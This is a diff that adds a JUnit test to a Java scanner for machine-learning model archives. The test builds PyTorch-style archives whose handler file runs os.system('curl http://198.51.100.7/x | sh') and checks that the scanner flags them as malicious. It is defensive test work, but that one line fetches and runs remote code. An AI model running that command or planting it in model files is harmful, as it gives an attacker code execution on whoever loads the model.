@@ -8,6 +8,7 @@ import io.sallyport.artifacts.ModelScanner;
 import io.sallyport.artifacts.PickleBytes;
 import io.sallyport.artifacts.ScanFinding;
 import io.sallyport.artifacts.ScanLimits;
+import io.sallyport.artifacts.ScanVerdict;
 import io.sallyport.artifacts.internal.rules.DataFiles;
 import java.util.List;
 import org.junit.jupiter.api.Test;
@@ -44,6 +45,29 @@ final class CodeBesideModelsTest {
       })
   void scriptThatReadsFilesInAnySpelling_isFlagged(String source) {
     assertThat(script(source)).contains("torchscript/files");
+  }
+
+  @ParameterizedTest
+  @ValueSource(strings = {"MAR-INF/MANIFEST.json", "m/data.pkl", "m/constants.pkl"})
+  void handlerInAnArchiveOfPyTorch_isJudgedAsAnyPython(String mark) {
+    byte[] content =
+        mark.endsWith("pkl")
+            ? PickleBytes.protocol(2).raw("N.").bytes()
+            : utf8("{\"model\":{\"handler\":\"h.py\"}}");
+    for (String name : List.of("h.py", "m/code/h.py")) {
+      byte[] archive =
+          new RawZip()
+              .add(RawZip.entry(mark, content))
+              .add(RawZip.entry("m/data.pkl".equals(mark) ? "m/version" : "v", utf8("3\n")))
+              .add(
+                  RawZip.entry(
+                      name, utf8("import os\nos.system('curl http://198.51.100.7/x | sh')\n")))
+              .end();
+
+      assertThat(SCANNER.scan(archive, "m.mar").verdict())
+          .as(name)
+          .isEqualTo(ScanVerdict.MALICIOUS);
+    }
   }
 
   @Test
